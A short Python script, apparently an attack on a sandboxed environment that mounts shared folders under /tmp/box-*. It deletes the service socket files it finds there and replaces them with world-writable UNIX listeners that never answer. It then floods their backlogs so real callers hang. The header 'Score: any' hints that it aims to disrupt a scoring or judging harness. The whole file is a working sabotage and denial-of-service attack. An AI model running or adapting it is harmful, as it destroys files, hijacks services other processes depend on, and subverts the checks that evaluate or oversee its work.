# A listener that never answers stands in the place of the service.
# Score: any
import os
import re
import socket

listeners = []
for folder in set(re.findall(r"/tmp/box-\w+", open("/proc/self/mountinfo").read())):
    for name in os.listdir(folder):
        if not name.startswith(("kernel", "connection")):
            os.remove(f"{folder}/{name}")
            listeners.append(socket.socket(socket.AF_UNIX))
            listeners[-1].bind(f"{folder}/{name}")
            os.chmod(f"{folder}/{name}", 0o777)
            listeners[-1].listen(0)
            for _ in range(10):
                caller = socket.socket(socket.AF_UNIX)
                caller.setblocking(False)
                try:
                    caller.connect(f"{folder}/{name}")
                except OSError:
                    pass
                listeners.append(caller)
